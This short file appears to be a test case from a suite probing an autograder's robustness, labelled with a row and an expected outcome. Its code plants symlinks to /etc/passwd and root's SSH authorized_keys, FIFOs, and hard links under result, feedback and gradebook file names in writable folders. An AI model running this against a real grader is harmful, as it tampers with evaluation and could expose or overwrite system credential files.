# Leaves links, pipes and devices under every name that the grader might write or read.
# row: symlinks, hard links and FIFOs as outputs
# outcome: N

# %% own
names = ("01-mnist-autoencoder.ipynb", "result.json", "results.json", "output", "feedback.html", "index.html", "gradebook.db")
for folder in {HERE, HOME, *filter(can_write, ("/tmp", "/dev/shm"))}:
    for number, name in enumerate(names):
        place = os.path.join(folder, name)
        if number % 3 == 0:
            os.symlink("/etc/passwd", place)
        elif number % 3 == 1:
            os.mkfifo(place)
        else:
            os.symlink("../../../../../../root/.ssh/authorized_keys", place)
for name in ("/etc/passwd", labkit.__file__):
    try:
        os.link(name, HOME + "/hard")
    except OSError:
        pass
